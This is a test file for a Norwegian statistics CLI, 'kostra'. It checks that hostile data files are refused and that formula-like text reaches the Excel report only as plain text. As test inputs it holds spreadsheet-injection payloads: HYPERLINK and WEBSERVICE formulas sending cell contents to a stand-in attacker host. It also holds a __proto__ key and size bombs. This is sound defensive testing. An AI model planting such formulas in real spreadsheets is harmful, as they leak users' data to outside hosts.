/**
 * Hostile-input corpus, area "files": data files a user is sent by e-mail or saves from the
 * web — `kostra fetch` files, JSON-stat files, tidy CSVs — given to `kostra report` (run
 * in-process). Each case must end with exit 2 and one line naming the file and the problem,
 * leave the input file and the previous report untouched and write nothing else; the valid
 * file with formula-like and XML-forbidden text must give a workbook whose formulas are
 * only the report's own and whose parts are well-formed XML (xmllint).
 *
 * Every file here is SYNTHETIC: made from the embedded synthetic sample, the synthetic
 * fixtures in tests/fixtures/ssb and the hand-made files in tests/fixtures/hostile/files.
 */
import { execFileSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import type { FetchIo } from "../../../src/cli/fetch";
import { main } from "../../../src/cli/main";
import { MAX_FILE_BYTES } from "../../../src/kostra/limits";
import { clearKostraGroups } from "../../../src/kostra/registry/aggregates";
import { hasXmlForbidden } from "../../../src/kostra/safe-text";
import type { Dataset } from "../../../src/kostra/types";
import { buildReport } from "../../../src/report/report";
import { readDataFile } from "../../../src/sources/file";
import { writeObservationsFile } from "../../../src/sources/observations-file";
import { sampleDataset } from "../../../src/sources/sample";
import { syntheticDataset } from "../../support/groups-dataset";

const ROOT = join(__dirname, "..", "..", "..");
const HOSTILE = join(ROOT, "tests", "fixtures", "hostile", "files");
const SSB = join(ROOT, "tests", "fixtures", "ssb");
const dir = mkdtempSync(join(tmpdir(), "kostra-hostile-files-"));
const OUT = join(dir, "rapport.xlsx");
const PREVIOUS = Buffer.from("the previous report, which must survive");

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = any;

/** The embedded sample as a `kostra fetch` file, parsed, for a case to change. */
const fetchFile = (): Json => JSON.parse(writeObservationsFile(sampleDataset(), { createdAt: new Date("2026-01-01T00:00:00Z") }));
/** The synthetic 12362 fixture (Bærum & ASSS, plan-miljo-kultur 2017), parsed. */
const jsonStat = (): Json => JSON.parse(readFileSync(join(SSB, "12362-pmk-2017.json"), "utf8"));
const CSV_HEADER = "region;indikator;år;verdi;status\n";

async function kostra(args: string[], readFile: FetchIo["readFile"] = (p) => readFileSync(p)) {
  let out = "";
  let err = "";
  const io: FetchIo = { out: (t) => (out += t), err: (t) => (err += t), readFile };
  const code = await main(args, io);
  return { code, out, err };
}

const REPORT = ["report", "--sector", "plan-miljo-kultur", "--municipality", "0219", "--year", "2017", "--out", OUT];

interface Case {
  name: string;
  file: string;
  /** File content: JSON (written as JSON text) or text. */
  content: () => Json | string;
  /** Words the one-line message must contain (nb). */
  words: RegExp[];
}

/** A KOSTRA grouping record as `kostra fetch` saves it (SYNTHETIC memberships). */
const grouping = (year: number, groups: Record<string, string>): Json => ({ year, date: `${year}-01-01`, source: `SSB Klass 131→112, ${year}-01-01 (SYNTETISK)`, groups });

const HYPERLINK = { formula: 'HYPERLINK("http://evil.example/?"&A2,"Klikk her")' };
const WEBSERVICE = { formula: 'WEBSERVICE("http://evil.example/?"&A2)' };
const change = (f: Json, edit: (f: Json) => void) => (edit(f), f);

const CASES: Case[] = [
  { name: "provenance query as a HYPERLINK formula object", file: "query-hyperlink.json", content: () => change(fetchFile(), (f) => (f.provenance[0].query = HYPERLINK)), words: [/query-hyperlink\.json/, /«provenance\[0\]\.query» forventet tekst/] },
  { name: "provenance table as a WEBSERVICE formula object", file: "table-webservice.json", content: () => change(fetchFile(), (f) => (f.provenance[0].table = WEBSERVICE)), words: [/«provenance\[0\]\.table» forventet tekst/] },
  { name: "provenance updated as a formula object", file: "updated-formula.json", content: () => change(fetchFile(), (f) => (f.provenance[0].updated = HYPERLINK)), words: [/«provenance\[0\]\.updated» forventet tekst/] },
  { name: "provenance fetchedAt as a formula object", file: "fetched-formula.json", content: () => change(fetchFile(), (f) => (f.provenance[0].fetchedAt = WEBSERVICE)), words: [/«provenance\[0\]\.fetchedAt» forventet tekst/] },
  { name: "a provenance note as a formula object", file: "notes-formula.json", content: () => change(fetchFile(), (f) => (f.provenance[0].notes = [HYPERLINK])), words: [/«provenance\[0\]\.notes\[0\]» forventet tekst/] },
  { name: "provenance: null", file: "provenance-null.json", content: () => change(fetchFile(), (f) => (f.provenance = null)), words: [/«provenance» forventet en liste, fikk null/] },
  { name: "a status symbol that is not text", file: "status-object.json", content: () => change(fetchFile(), (f) => (f.observations[5].status = HYPERLINK)), words: [/«observations\[5\]\.status» forventet tekst/] },
  { name: "Infinity (1e309) in a fetch file", file: "infinity.json", content: () => JSON.stringify(fetchFile()).replace(/"value":(\d+)/, '"value":1e309'), words: [/«observations\[0\]\.value» er ikke et endelig tall/] },
  {
    name: "a duplicate observation with another value in a fetch file",
    file: "duplicate.json",
    content: () => change(fetchFile(), (f) => f.observations.push({ ...f.observations[0], value: 1 })),
    words: [/gjelder samme kommune, indikator og år som «observations\[0\]»/, /med en annen verdi/],
  },
  { name: "__proto__ as a JSON-stat dimension id", file: "proto-dimension.json", content: () => JSON.stringify(jsonStat()).replace(/"KOKart0000"/g, '"__proto__"'), words: [/«id\[2\]» er et reservert navn/] },
  { name: "a JSON-stat size bomb (2 GB)", file: "jsonstat-size-bomb-2gb.json", content: () => readFileSync(join(HOSTILE, "jsonstat-size-bomb-2gb.json"), "utf8"), words: [/oppgir 268 435 456 celler; grensen er 5 000 000/] },
  { name: "a JSON-stat size bomb (8 GB)", file: "jsonstat-size-bomb-8gb.json", content: () => readFileSync(join(HOSTILE, "jsonstat-size-bomb-8gb.json"), "utf8"), words: [/oppgir 1 000 000 000 celler; grensen er 5 000 000/] },
  { name: "Infinity (1e309) in a JSON-stat file", file: "infinity-jsonstat.json", content: () => JSON.stringify(jsonStat()).replace(/"value":\[(\d+)/, '"value":[1e309'), words: [/cellen KOKkommuneregion0000=0301, KOKfunksjon0000=301, KOKart0000=AGD2, ContentsCode=KOSbelopinnbygge0000, Tid=2017 er ikke et endelig tall/] },
  {
    name: "quarters (2017K1, 2017K2) for annual indicators",
    file: "quarters.json",
    content: () => {
      const ds = jsonStat();
      ds.dimension.Tid.category.index = { "2017K1": 0 };
      ds.dimension.Tid.category.label = { "2017K1": "2017K1" };
      return ds;
    },
    words: [/tidskoden «2017K1» i dimensjon «Tid» er ikke et årstall/],
  },
  {
    name: "a code listed twice in a JSON-stat category list",
    file: "duplicate-code.json",
    content: () => {
      const ds = jsonStat();
      const regions = ds.dimension.KOKkommuneregion0000.category;
      regions.index = Object.keys(regions.index).sort((a, b) => regions.index[a] - regions.index[b]);
      regions.index[1] = regions.index[0];
      return ds;
    },
    words: [/dimensjon «KOKkommuneregion0000»: kategorien «0301» står to ganger/],
  },
  { name: "Infinity (1e309) in a CSV", file: "infinity.csv", content: () => `${CSV_HEADER}0219;bibliotek;2017;1e309;\n`, words: [/infinity\.csv linje 2, felt «verdi»: «1e309» er ikke et endelig tall/] },
  { name: "a region code not valid in the row's year in a CSV", file: "code-year.csv", content: () => `${CSV_HEADER}3201;bibliotek;2017;1;\n`, words: [/code-year\.csv linje 2, felt «region»: koden «3201» gjelder ikke Bærum i 2017 \(den er gyldig fra 2024; Bærum hadde 0219\)/] },
  { name: "a quarter in a CSV", file: "quarter.csv", content: () => `${CSV_HEADER}0219;bibliotek;2017K1;1;\n0219;bibliotek;2017K2;2;\n`, words: [/felt «år»: «2017K1» er en tidskode for del av et år/] },
  { name: "conflicting rows in a CSV", file: "conflict.csv", content: () => `${CSV_HEADER}0219;bibliotek;2017;1;\n0219 Bærum;bibliotek;2017;2;\n`, words: [/conflict\.csv linje 3: samme kommune, indikator og år som linje 2 \(0219 Bærum, bibliotek, 2017\), med en annen verdi/] },
  {
    name: "Oslo's code on a Bærum figure in a fetch file",
    file: "wrong-code.json",
    content: () => change(fetchFile(), (f) => (f.observations.find((o: Json) => o.municipality === "baerum" && o.year === 2017 && o.indicator === "kunstformidling").code = "0301")),
    words: [/«observations\[\d+\]\.code»: koden «0301» gjelder ikke Bærum i 2017 \(Bærum hadde 0219\)/],
  },
  {
    name: "Ålesund's code on a Haram figure while Haram was part of Ålesund",
    file: "haram-2021.json",
    content: () => change(fetchFile(), (f) => f.observations.push({ indicator: "kunstformidling", municipality: "haram", year: 2021, code: "1507", value: 1, provenance: 0 })),
    words: [/koden «1507» gjelder ikke Haram i 2021 \(Haram hadde ingen egen kode i 2021; den var en del av Ålesund\)/],
  },
  {
    name: "two KOSTRA groupings for one year in a fetch file",
    file: "two-groupings.json",
    content: () => change(fetchFile(), (f) => (f.kostraGroups = [grouping(2017, { ha: "ekg07" }), grouping(2017, { ha: "ekg08" })])),
    words: [/«kostraGroups\[1\]\.year»: 2017 står også i «kostraGroups\[0\]»/],
  },
  { name: "a CSV with the value column twice", file: "two-values.csv", content: () => "region;indikator;år;verdi;verdi\n0219;kunstformidling;2017;100;141\n", words: [/two-values\.csv linje 1: kolonnen «verdi» står to ganger \(kolonne 4 og 5\)/] },
  { name: "a CSV row for Haram while it was part of Ålesund", file: "haram.csv", content: () => `${CSV_HEADER}1534 Haram;bibliotek;2021;5;\n`, words: [/haram\.csv linje 2: «1534 Haram» er Haram, som ikke hadde eget kommunenummer i 2021 \(den var en del av Ålesund\)/] },
];

describe("hostile data files given to kostra report", () => {
  beforeEach(() => writeFileSync(OUT, PREVIOUS));

  it.each(CASES.map((c) => [c.name, c] as const))("%s: exit 2, one line naming file and problem, nothing written", async (_, c) => {
    const path = join(dir, c.file);
    const content = c.content();
    writeFileSync(path, typeof content === "string" ? content : JSON.stringify(content));
    const input = readFileSync(path);
    const before = readdirSync(dir).sort();
    const t0 = Date.now();
    const r = await kostra([...REPORT, "--input", path]);
    expect(r.code).toBe(2);
    expect(r.out).toBe("");
    expect(r.err).toMatch(/^kostra: [^\n]+\n$/);
    expect(r.err).toMatch(new RegExp(c.file.replace(/[.]/g, "\\.")));
    for (const w of c.words) expect(r.err).toMatch(w);
    expect(hasXmlForbidden(r.err)).toBe(false);
    expect(Date.now() - t0).toBeLessThan(5000);
    // The user's files are as they were; nothing new in the folder.
    expect(readFileSync(path).equals(input)).toBe(true);
    expect(readFileSync(OUT).equals(PREVIOUS)).toBe(true);
    expect(readdirSync(dir).sort()).toEqual(before);
  });

  it("the same message in English with --lang en", async () => {
    const path = join(dir, "query-hyperlink-en.json");
    writeFileSync(path, JSON.stringify(change(fetchFile(), (f) => (f.provenance[0].query = HYPERLINK))));
    const r = await kostra([...REPORT, "--input", path, "--lang", "en"]);
    expect(r.code).toBe(2);
    expect(r.err).toBe('kostra: query-hyperlink-en.json: "provenance[0].query" expected text, got Object.\n');
  });

  it("a file over the size limit: exit 2 before it is decoded", async () => {
    const path = join(dir, "stor.json");
    const r = await kostra([...REPORT, "--input", path], () => new Uint8Array(MAX_FILE_BYTES + 1).fill(0x7b));
    expect(r.code).toBe(2);
    expect(r.err).toBe("kostra: stor.json: filen er større enn 100 MB, som er grensen for datafiler.\n");
    expect(readFileSync(OUT).equals(PREVIOUS)).toBe(true);
  });
});

describe("a valid file with formula-like and XML-forbidden text", () => {
  /** Text fields an attacker controls in a valid file: formulas as text, and characters XML forbids. */
  const TRICKY_QUERY = '=HYPERLINK("http://evil.example/?"&A2,"Klikk her")\u0000';
  const TRICKY_NOTE = '=WEBSERVICE("http://evil.example/?"&A2)\uFFFE';
  const TRICKY_STATUS = "@SUM(1+1)\u0001";
  const file = join(dir, "lurt.json");
  let workbook: ExcelJS.Workbook;
  let zip: JSZip;

  beforeAll(async () => {
    const f = fetchFile();
    f.provenance[0] = { source: "ssb", table: "12362", query: TRICKY_QUERY, fetchedAt: "2026-01-01T00:00:00Z", updated: "2025-06-15T06:00:00Z", notes: [TRICKY_NOTE] };
    f.observations.find((o: Json) => o.municipality === "baerum" && o.year === 2017 && o.indicator === "bibliotek").status = TRICKY_STATUS;
    writeFileSync(file, JSON.stringify(f));
    writeFileSync(OUT, PREVIOUS);
    const r = await kostra([...REPORT, "--input", file]);
    expect(r.code).toBe(0);
    const bytes = readFileSync(OUT);
    workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    zip = await JSZip.loadAsync(bytes);
  });

  it("writes only the formulas the report planned, none with HYPERLINK or WEBSERVICE, and no links", () => {
    const planned = new Set<string>();
    const dataset = readDataFile(readFileSync(file), "lurt.json").dataset;
    const { plan } = buildReport(dataset, { sectors: ["plan-miljo-kultur"], municipality: "baerum", year: 2017, years: [2017], lang: "nb" });
    for (const s of plan.sheets) for (const b of s.blocks) for (const row of b.rows) for (const c of row) if (c.kind === "formula") planned.add(`${s.name}|${c.formula.replace(/^=/, "")}`);
    let formulas = 0;
    workbook.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.hyperlink).toBeUndefined();
          if (cell.type !== ExcelJS.ValueType.Formula) return;
          formulas++;
          expect(cell.formula).not.toMatch(/HYPERLINK|WEBSERVICE|FILTERXML|IMPORT/i);
          expect(planned.has(`${ws.name}|${cell.formula}`)).toBe(true);
        }),
      ),
    );
    expect(formulas).toBeGreaterThan(10);
  });

  it("writes the provenance and the status as plain text, cleaned of forbidden characters", () => {
    const texts: string[] = [];
    workbook.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => cell.type === ExcelJS.ValueType.String && texts.push(String(cell.value)))));
    expect([...new Set(texts.filter((t) => /HYPERLINK|WEBSERVICE|@SUM/.test(t)))].sort()).toEqual(['=HYPERLINK("http://evil.example/?"&A2,"Klikk her")\uFFFD', "@SUM(1+1)\uFFFD"]);
    expect(texts.filter(hasXmlForbidden)).toEqual([]);
  });

  it("writes parts that are all well-formed XML (xmllint)", async () => {
    const parts = Object.values(zip.files).filter((f) => !f.dir && /\.(xml|rels)$/.test(f.name));
    expect(parts.length).toBeGreaterThan(5);
    for (const part of parts) {
      const xml = await part.async("string");
      expect(() => execFileSync("xmllint", ["--noout", "-"], { input: xml, stdio: ["pipe", "pipe", "pipe"] })).not.toThrow();
    }
  });
});

describe("several data files given together", () => {
  const PROFILE = ["profile", "--sector", "plan-miljo-kultur", "--municipality", "0219", "--year", "2017", "--format", "json"];
  const kunst = (json: Json) => json.rows.find((r: Json) => r.indicator.id === "kunstformidling");
  const sampleKunst = () => fetchFile().observations.find((o: Json) => o.municipality === "baerum" && o.year === 2017 && o.indicator === "kunstformidling").value as number;
  const write = (name: string, content: Json | string) => {
    const path = join(dir, name);
    writeFileSync(path, typeof content === "string" ? content : JSON.stringify(content));
    return path;
  };

  beforeEach(() => writeFileSync(OUT, PREVIOUS));
  afterEach(() => clearKostraGroups());

  it("refuses a figure two files disagree on (Bærum kunstformidling 2017 = 141 and 100): exit 2, one line naming both files and the codes", async () => {
    const a = write("hentet.json", fetchFile());
    const b = write("egne.csv", `${CSV_HEADER}0219;kunstformidling;2017;100;\n`);
    const inputs = [readFileSync(a), readFileSync(b)];
    const before = readdirSync(dir).sort();
    const r = await kostra([...REPORT, "--input", a, "--input", b]);
    expect(r.code).toBe(2);
    expect(r.out).toBe("");
    expect(r.err).toBe(
      `kostra: egne.csv: samme kommune, indikator og år som i hentet.json (0219 Bærum, kunstformidling, 2017), med en annen verdi (100, ikke ${sampleKunst()}). Filene er uenige: rett eller fjern tallet i den ene.\n`,
    );
    expect(readFileSync(a).equals(inputs[0])).toBe(true);
    expect(readFileSync(b).equals(inputs[1])).toBe(true);
    expect(readFileSync(OUT).equals(PREVIOUS)).toBe(true);
    expect(readdirSync(dir).sort()).toEqual(before);
    const en = await kostra([...REPORT, "--input", a, "--input", b, "--lang", "en"]);
    expect(en.err).toMatch(/^kostra: egne\.csv: same municipality, indicator and year as in hentet\.json \(0219 Bærum, kunstformidling, 2017\), with another value \(100, not \d+(\.\d+)?\)\. The files disagree: correct or remove the figure in one of them\.\n$/);
  });

  it("uses the same figure in a fetch file and a CSV once (exit 0), whichever comes first", async () => {
    const a = write("hentet.json", fetchFile());
    const b = write("samme.csv", `${CSV_HEADER}0219;kunstformidling;2017;${String(sampleKunst()).replace(".", ",")};\n`);
    for (const order of [[a, b], [b, a]]) {
      const r = await kostra([...PROFILE, ...order.flatMap((p) => ["--input", p])]);
      // Only the notice every view of synthetic figures carries.
      expect(r.err).toMatch(/^Eksempeldata \(syntetiske\)[^\n]*\n$/);
      expect(r.code).toBe(0);
      expect(kunst(JSON.parse(r.out)).value).toBe(sampleKunst());
    }
  });

  it("lays files over the sample with --sample: a file's figure replaces the sample's", async () => {
    const b = write("rettet.csv", `${CSV_HEADER}0219;kunstformidling;2017;100;\n`);
    const r = await kostra([...PROFILE, "--sample", "--input", b]);
    expect(r.code).toBe(0);
    expect(kunst(JSON.parse(r.out)).value).toBe(100);
  });

  describe("KOSTRA groupings in several fetch files", () => {
    const HA = ["profile", "--sector", "plan-miljo-kultur", "--municipality", "1119", "--year", "2021", "--network", "none", "--compare", "", "--base", "kostragruppe", "--format", "json"];
    const withGroups = (dataset: Dataset, groups: Json[]) => ({ ...JSON.parse(writeObservationsFile(dataset, { createdAt: new Date("2026-01-01T00:00:00Z") })), kostraGroups: groups });
    const empty: Dataset = { observations: [], provenance: [] };

    it("merges one year's grouping from two files: Hå's group is known from the first though the second names others", async () => {
      const a = write("ha.json", withGroups(syntheticDataset(), [grouping(2021, { ha: "ekg07" })]));
      const b = write("time.json", withGroups(empty, [grouping(2021, { time: "ekg07", oslo: "ekg13" })]));
      const r = await kostra([...HA, "--input", a, "--input", b]);
      expect(r.err).not.toMatch(/KOSTRA-gruppe/);
      expect(r.code).toBe(0);
      expect(JSON.parse(r.out).base).toEqual({ id: "ekg07", code: "EKG07", name: "KOSTRA-gruppe 7" });
    });

    it("refuses Hå in group 7 in one file and group 8 in another: exit 2 naming both files, Hå and the year", async () => {
      const a = write("ha.json", withGroups(syntheticDataset(), [grouping(2021, { ha: "ekg07" })]));
      const b = write("ha-8.json", withGroups(empty, [grouping(2021, { time: "ekg07", ha: "ekg08" })]));
      const r = await kostra([...HA, "--input", a, "--input", b]);
      expect(r.code).toBe(2);
      expect(r.out).toBe("");
      expect(r.err).toBe("kostra: ha-8.json: «kostraGroups[0].groups.ha»: Hå (1119) er i KOSTRA-gruppe 8 i 2021, men i KOSTRA-gruppe 7 i ha.json. Filene er uenige: bruk grupperingen fra én av dem.\n");
    });
  });
});
